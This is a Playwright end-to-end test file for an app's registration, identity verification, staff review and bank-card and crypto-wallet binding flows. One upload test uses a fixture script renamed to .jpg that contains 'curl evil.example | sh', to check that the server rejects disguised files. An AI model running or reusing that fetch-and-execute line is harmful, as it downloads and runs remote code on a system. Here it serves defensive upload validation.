import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { at, cameraJpeg, formWith, useEnglish } from './support/app';
import { launchBrowser, phonePage } from './support/browser';
import { signInAsStaff, staffToken } from './support/staff';
import { codeFromOutbox, startAppServer } from './support/server';
import { jpeg, png } from '../server/support/images';
import { createStaff } from '@server/staff/accounts';

const PASSWORD = 'Verify123!';
const PAY_PASSWORD = '246810';
const TRC20 = 'TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t';
const TAKEN_TRC20 = 'TXLAQ63Xg1NAzckPwKHvzw7CSEmLMEqcdj';
const ERC20 = '0xdAC17F958D2ee523a2206206994597C13D831ec7';

/**
 * The whole journey in Chromium: a new member registers, sets a payment password, submits
 * real-name verification with two photos; a reviewer signs in to the staff screens and rejects it
 * with a reason; the member reads the reason and resubmits; the reviewer approves; the member binds
 * a bank card (a holder name that is not theirs is refused) and a TRC20 wallet (an ERC20 address
 * and an address another member holds are refused), then unbinds it with the payment password.
 */
describe('verification, review and payout accounts in Chromium', () => {
  let browser: Browser;
  let server: Awaited<ReturnType<typeof startAppServer>>;

  beforeAll(async () => {
    server = await startAppServer();
    browser = await launchBrowser();
    // A second reviewer approves the other member over the API, so the first one's code countdown is untouched.
    await createStaff(server.running.services, {
      email: 'kyc2@meridian.local',
      name: 'Lee Reviewer',
      password: 'Review1234!',
      roles: ['kyc_reviewer'],
    });
  });
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  async function api(path: string, body: unknown, token?: string, method = 'POST'): Promise<{ code: number; msg: string; data: unknown }> {
    const headers: Record<string, string> = { 'Content-Type': 'application/json', Lan: 'en' };
    if (token) headers.Authorization = `Bearer ${token}`;
    const res = await fetch(`${server.url}/api/${path}`, { method, headers, body: JSON.stringify(body) });
    return (await res.json()) as { code: number; msg: string; data: unknown };
  }

  /** Another member who holds TAKEN_TRC20, set up over the API with a staff approval. */
  async function memberHoldingTakenAddress(): Promise<void> {
    const email = `holder${Date.now()}@example.com`;
    await api('member/mail_otp', { email, purpose: 'register' });
    const reg = await api('member/register', {
      type: 'email',
      email,
      code: await codeFromOutbox(server.url, email),
      password: PASSWORD,
      agree: true,
      privacy: true,
    });
    const token = (reg.data as { token: string }).token;
    const upload = async (purpose: string, bytes: Buffer, type: string) => {
      const form = new FormData();
      form.append('purpose', purpose);
      form.append('file', new Blob([new Uint8Array(bytes)], { type }), 'id.jpg');
      const res = await fetch(`${server.url}/api/upload/image`, {
        method: 'POST',
        headers: { Authorization: `Bearer ${token}` },
        body: form,
      });
      return ((await res.json()) as { data: { key: string } }).data.key;
    };
    const submitted = await api(
      'member/verify',
      {
        real_name: 'Other Holder',
        id_type: 'passport',
        id_number: 'HOLD12345',
        front_img: await upload('realname_front', jpeg(), 'image/jpeg'),
        back_img: await upload('realname_back', jpeg(), 'image/jpeg'),
      },
      token,
    );
    expect(submitted.code).toBe(0);
    const uid = (await server.running.services.db.query<{ uid: string }>('SELECT uid FROM members WHERE email = $1', [email])).rows[0]!.uid;
    expect(
      (await api('ops/kyc_decide', { uid, approve: true }, await staffToken(server.url, 'kyc2@meridian.local', 'Review1234!'))).code,
    ).toBe(0);
    await api('users/cell_code', { purpose: 'pay_password' }, token);
    expect(
      (await api('member/set_payment_code', { pay_password: PAY_PASSWORD, code: await codeFromOutbox(server.url, email) }, token)).code,
    ).toBe(0);
    expect((await api('member/digital_bind', { protocol: 'TRC20', address: TAKEN_TRC20, pay_password: PAY_PASSWORD }, token)).code).toBe(0);
  }

  async function register(page: Page): Promise<string> {
    const email = `kyc${Date.now()}@example.com`;
    await page.goto('/register');
    await page.getByPlaceholder('Enter your email').fill(email);
    await page.getByText('I have read and agree to the').click();
    await page.getByRole('button', { name: 'Send verification code' }).click();
    await page.waitForURL(at('/pages/other/sendCodeReg', '/sendCodeReg'));
    await page.getByPlaceholder('6-digit code').fill(await codeFromOutbox(server.url, email));
    await page.getByRole('button', { name: 'Next' }).click();
    await page.waitForURL(at('/pages/other/pwdReg', '/pwdReg'));
    await page.getByPlaceholder('8 or more characters including 2 kinds of letters, symbols or numbers').fill(PASSWORD);
    await page.getByPlaceholder('Enter the password again').fill(PASSWORD);
    await page.getByRole('button', { name: 'Register' }).click();
    await page.waitForURL(at('/pages/index/mine', '/mine'));
    return email;
  }

  async function setPayPassword(page: Page, email: string): Promise<void> {
    await page.getByText('Payment password', { exact: true }).click();
    await page.waitForURL(at('/pages/mine/pay-password'));
    await page.getByRole('button', { name: 'Send verification code' }).click();
    await page.getByText(/We sent/).waitFor();
    await page.getByPlaceholder('6-digit code').fill(await codeFromOutbox(server.url, email));
    const fields = page.locator('input[type="password"]');
    await fields.nth(0).fill(PAY_PASSWORD);
    await fields.nth(1).fill(PAY_PASSWORD);
    await page.getByRole('button', { name: 'Confirm' }).click();
    await page.getByText('Modification successful').waitFor();
    // The app goes back to My by itself: a page.goto issued before that lands is aborted by it.
    await page.waitForURL(at('/pages/index/mine', '/mine'));
  }

  async function submitVerification(page: Page, realName: string, idNumber: string): Promise<void> {
    const form = formWith(page, 'As written on your ID');
    await form.getByPlaceholder('As written on your ID').fill(realName);
    await form.getByText('Passport', { exact: true }).click();
    await form.getByPlaceholder('Letters, digits and dashes').fill(idNumber);
    await form
      .locator('input[type="file"]')
      .nth(0)
      .setInputFiles({ name: 'front.jpg', mimeType: 'image/jpeg', buffer: await cameraJpeg(page) });
    await form
      .locator('input[type="file"]')
      .nth(1)
      .setInputFiles({ name: 'back.png', mimeType: 'image/png', buffer: png(4, 3) });
    await expect.poll(() => form.getByText('Uploaded', { exact: true }).count()).toBe(2);
    await form.getByRole('button', { name: 'Submit for review' }).click();
    await page.getByText('Submitted successfully').first().waitFor();
  }

  async function staffSignIn(page: Page, email: string, password: string, name: string): Promise<void> {
    // No staff session: the queue's first call sends the browser to the staff sign-in.
    await signInAsStaff(page, server.url, email, password, '/ops/kyc');
    await page.getByText(`Signed in as ${name}`).waitFor();
  }

  /** The first administrator (created by the server on its empty database) adds a KYC reviewer. */
  async function adminCreatesReviewer(page: Page): Promise<void> {
    const admin = server.running.admin!;
    await staffSignIn(page, admin.email, admin.password, 'Administrator');
    await page.getByText(/^Staff accounts/).click();
    await page.waitForURL(at('/ops/staff'));
    const create = formWith(page, 'Full name');
    await create.getByPlaceholder('Full name').fill('Kim Reviewer');
    await create.getByPlaceholder('name@company').fill('kyc@meridian.local');
    await create.getByText('KYC reviewer', { exact: true }).click();
    await create.locator('input[type="password"]').fill('Review1234!');
    await create.getByRole('button', { name: 'Create account' }).click();
    await page.getByText('Add successful').waitFor();
    await page.getByText(/^Kim Reviewer/).waitFor();
    await page.getByText('kyc@meridian.local · KYC reviewer').waitFor();
    // The form is empty again: no first password left on the screen.
    expect(await create.locator('input[type="password"]').inputValue()).toBe('');
    expect(await create.getByPlaceholder('Full name').inputValue()).toBe('');
    await page.getByText('Sign out', { exact: true }).click();
    await page.locator('.adm-dialog').getByRole('button', { name: 'Sign out' }).click();
    await page.waitForURL(at('/ops/login'));
  }

  async function openInQueue(page: Page, realName: string): Promise<void> {
    await page.goto('/ops/kyc');
    // A cell's title and description share one element: match the title at its start.
    await page.getByText(new RegExp(`^${realName}`)).click();
    await page.waitForURL(at('/ops/kyc/detail'));
    await page.getByText('Under review', { exact: true }).first().waitFor();
    // Both photos load through the staff file route with the staff token, as in-memory images.
    await expect.poll(() => page.locator('img.mer-image-wide[src^="blob:"]').count()).toBe(2);
  }

  it('offers real-name verification when an unverified member tries to bind a bank card', async () => {
    const { page, errors } = await phonePage(browser, server.url);
    await useEnglish(page);
    await register(page);
    await page.goto('/pages/bind-card/bind-card');
    const card = formWith(page, 'Your name as verified');
    await card.getByText('HSBC', { exact: true }).click();
    await card.getByPlaceholder('Account number').fill('12345678');
    await card.getByPlaceholder('Your name as verified').fill('Nobody Yet');
    await card.getByPlaceholder('e.g. GB82WEST12345698765432').fill('GB82WEST12345698765432');
    await card.getByPlaceholder('6-digit payment password').fill(PAY_PASSWORD);
    await card.getByRole('button', { name: 'Bind card' }).click();
    const prompt = page.locator('.adm-dialog');
    await prompt.getByText('Please complete the transaction after real-name authentication. Do you want to authenticate now?').waitFor();
    await prompt.getByRole('button', { name: 'Verify now' }).click();
    await page.waitForURL(at('/pages/realname/realname'));
    await page.getByText('Verify your identity').waitFor();
    expect(errors).toEqual(['Failed to load resource: the server responded with a status of 403 (Forbidden)']);
    await page.context().close();
  });

  it('refuses a script renamed to .jpg and a photo over 5 MB, saying why, and keeps the form usable', async () => {
    const { page, errors } = await phonePage(browser, server.url);
    await useEnglish(page);
    await register(page);
    await page.goto('/pages/realname/realname');
    const form = formWith(page, 'As written on your ID');
    const front = form.locator('input[type="file"]').nth(0);
    // The browser calls it a JPEG by its name; the server reads the bytes and refuses it.
    await front.setInputFiles({ name: 'passport.jpg', mimeType: 'image/jpeg', buffer: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n') });
    await form.getByText('Only JPEG, PNG or WebP photos can be uploaded').waitFor();
    // Too large is answered at once, before anything is sent.
    await front.setInputFiles({ name: 'huge.jpg', mimeType: 'image/jpeg', buffer: Buffer.alloc(6 * 1024 * 1024, 0xff) });
    await form.getByText('The photo is larger than 5 MB').waitFor();
    // A real photo then goes through.
    await front.setInputFiles({ name: 'front.jpg', mimeType: 'image/jpeg', buffer: await cameraJpeg(page) });
    await form.getByText('Uploaded', { exact: true }).waitFor();
    // The one refused upload, and nothing else.
    expect(errors).toEqual(['Failed to load resource: the server responded with a status of 422 (Unprocessable Entity)']);
    await page.context().close();
  });

  it('goes from registration to a verified member with a bank card and a wallet unbound again', async () => {
    await memberHoldingTakenAddress();
    const { page, errors } = await phonePage(browser, server.url);
    const staff = await phonePage(browser, server.url);
    await useEnglish(page);
    await useEnglish(staff.page);

    const email = await register(page);
    await setPayPassword(page, email);

    await page.goto('/mine');
    await page.getByText('Not verified').waitFor();
    await page.getByText('Real-name verification', { exact: true }).click();
    await page.waitForURL(at('/pages/realname/realname'));
    await submitVerification(page, 'Park Minseo', 'M1234567');
    await page.getByText('Under review', { exact: true }).waitFor();

    // The reviewer rejects it with a reason.
    await adminCreatesReviewer(staff.page);
    await staffSignIn(staff.page, 'kyc@meridian.local', 'Review1234!', 'Kim Reviewer');
    // A reviewer's home offers the queue, not the administrator's tools.
    expect(await staff.page.getByText(/^Staff accounts/).count()).toBe(0);
    await openInQueue(staff.page, 'Park Minseo');
    await staff.page.getByText('M1234567').waitFor();
    await staff.page.getByPlaceholder('e.g. The photo of the back is blurred').fill('The passport photo is cut off at the bottom');
    await staff.page.getByRole('button', { name: 'Reject' }).click();
    await staff.page.locator('.adm-dialog').getByRole('button', { name: 'Reject' }).click();
    await staff.page.getByText('Decision saved').waitFor();
    await staff.page.getByText('Rejected: The passport photo is cut off at the bottom').waitFor();

    // The member reads the reason and resubmits.
    await page.reload();
    await page.getByText('Verification failed').waitFor();
    await page.getByText('Reason: The passport photo is cut off at the bottom').waitFor();
    await submitVerification(page, 'Park Minseo', 'M1234567');
    await page.getByText('Under review', { exact: true }).waitFor();

    // The reviewer approves the resubmission; the decisions are on record.
    await openInQueue(staff.page, 'Park Minseo');
    await staff.page.getByRole('button', { name: 'Approve' }).click();
    await staff.page.locator('.adm-dialog').getByRole('button', { name: 'Approve' }).click();
    await staff.page.getByText('Decision saved').waitFor();
    await staff.page.getByText('Passed', { exact: true }).first().waitFor();
    await staff.page.getByText('Kim Reviewer · The passport photo is cut off at the bottom').waitFor();

    await page.reload();
    await page.getByText('Your identity is verified.').waitFor();

    // A bank card: a holder who is not the verified person is refused, the member's own name binds.
    await page.goto('/pages/bind-card/bind-card');
    const card = formWith(page, 'Your name as verified');
    await card.getByText('Shinhan Bank', { exact: true }).click();
    await card.getByPlaceholder('Account number').fill('110-123-456789');
    await card.getByPlaceholder('Your name as verified').fill('Someone Else');
    await card.getByPlaceholder('e.g. GB82WEST12345698765432').fill('GB82WEST12345698765432');
    // A new destination needs the payment password; a wrong one is refused, and the refusal stays at the form beside the toast.
    await card.getByPlaceholder('6-digit payment password').fill('135790');
    await card.getByRole('button', { name: 'Bind card' }).click();
    await card
      .getByRole('alert')
      .filter({ hasText: /payment password is incorrect/ })
      .waitFor();
    await card.getByPlaceholder('6-digit payment password').fill(PAY_PASSWORD);
    await card.getByRole('button', { name: 'Bind card' }).click();
    await page.getByText('The account holder must be the person of your real-name verification', { exact: true }).first().waitFor();
    await card.getByPlaceholder('Your name as verified').fill('Park Minseo');
    await card.getByRole('button', { name: 'Bind card' }).click();
    await page.waitForURL(at('/pages/wallet-manage/wallet-manage'));
    // The card's masked number is on this screen only (the bank chips of the form are not).
    await page.getByText(/^Shinhan Bank.*\*+6789/).waitFor();

    // Editing a card asks for its details again, under the same holder rule.
    await page.getByRole('button', { name: 'Edit' }).click();
    await page.waitForURL(at('/pages/bind-card/bind-card'));
    await page.getByText('Edit bank card').waitFor();
    const edit = formWith(page, 'Your name as verified');
    await edit.getByText('KB Kookmin Bank', { exact: true }).click();
    await edit.getByPlaceholder('Account number').fill('220-987-654321');
    await edit.getByPlaceholder('Your name as verified').fill('Park Minseo');
    await edit.getByPlaceholder('e.g. GB82WEST12345698765432').fill('GB82WEST12345698765432');
    await edit.getByPlaceholder('6-digit payment password').fill(PAY_PASSWORD);
    await edit.getByRole('button', { name: 'Save' }).click();
    await page.waitForURL(at('/pages/wallet-manage/wallet-manage'));
    await page.getByText(/^KB Kookmin Bank.*\*+4321/).waitFor();
    expect(await page.getByText(/\*+6789/).count()).toBe(0);

    // A TRC20 wallet: an ERC20 address under TRC20 and an address another member holds are refused.
    await page.getByRole('button', { name: 'Add a USDT wallet' }).click();
    await page.waitForURL(at('/pages/bind-wallet/bind-wallet'));
    const wallet = formWith(page, 'Paste the address');
    await wallet.getByPlaceholder('6-digit payment password').fill(PAY_PASSWORD);
    await wallet.getByPlaceholder('Paste the address').fill(ERC20);
    await wallet.getByRole('button', { name: 'Bind wallet' }).click();
    await page
      .getByText(/not a valid TRC20 address/)
      .first()
      .waitFor();
    await wallet.getByPlaceholder('Paste the address').fill(TAKEN_TRC20);
    await wallet.getByRole('button', { name: 'Bind wallet' }).click();
    await page.getByText('This address is bound to another account').first().waitFor();
    await wallet.getByPlaceholder('Paste the address').fill(TRC20);
    await wallet.getByRole('button', { name: 'Bind wallet' }).click();
    await page.waitForURL(at('/pages/wallet-manage/wallet-manage'));
    await page.getByText(TRC20).waitFor();

    // Unbinding needs the payment password and a confirmation; a wrong one is refused.
    await page.getByText(TRC20).click();
    const panel = formWith(page, '6-digit payment password');
    await panel.locator('input[type="password"]').fill('135790');
    await panel.getByRole('button', { name: 'Unbind' }).click();
    await page.locator('.adm-dialog').getByRole('button', { name: 'Unbind' }).click();
    await page
      .getByText(/payment password is incorrect/)
      .first()
      .waitFor();
    await panel.locator('input[type="password"]').fill(PAY_PASSWORD);
    await panel.getByRole('button', { name: 'Unbind' }).click();
    await page.locator('.adm-dialog').getByRole('button', { name: 'Unbind' }).click();
    await page.getByText('Unbinding successfully').waitFor();
    await page.getByText('No wallet bound yet').waitFor();

    const { rows } = await server.running.services.db.query<{ n: string }>(
      'SELECT count(*)::text AS n FROM wallets w JOIN members m ON m.id = w.member_id WHERE m.email = $1 AND w.removed_at IS NULL',
      [email],
    );
    expect(rows[0]!.n).toBe('0');
    // Chromium logs every refused call; these are exactly the five refusals above, and nothing else went wrong.
    const refused = (status: string) => `Failed to load resource: the server responded with a status of ${status}`;
    const rule = refused('422 (Unprocessable Entity)');
    expect(errors).toEqual([rule, rule, rule, refused('409 (Conflict)'), rule]);
    expect(staff.errors).toEqual([]);
    await page.context().close();
    await staff.page.context().close();
  });
});
